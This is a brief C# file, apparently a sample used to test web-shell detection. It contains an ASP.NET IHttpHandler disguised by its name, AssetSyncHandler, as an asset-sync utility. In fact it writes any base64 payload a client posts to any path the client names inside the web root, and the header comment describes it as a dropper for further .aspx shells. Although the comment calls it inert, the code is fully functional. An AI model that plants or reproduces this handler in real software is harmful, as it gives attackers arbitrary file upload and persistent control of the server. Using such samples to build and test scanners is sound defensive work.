// Test sample (inert): an IHttpHandler in App_Code that writes the posted bytes to a path the client
// names inside the web root: a dropper for further .aspx shells.
using System;
using System.IO;
using System.Web;

public class AssetSyncHandler : IHttpHandler
{
    public bool IsReusable { get { return true; } }

    public void ProcessRequest(HttpContext context)
    {
        string name = context.Request.QueryString["f"];
        byte[] content = Convert.FromBase64String(context.Request.Form["d"]);
        string target = context.Server.MapPath("~/" + name);
        File.WriteAllBytes(target, content);
        context.Response.Write("ok");
    }
}
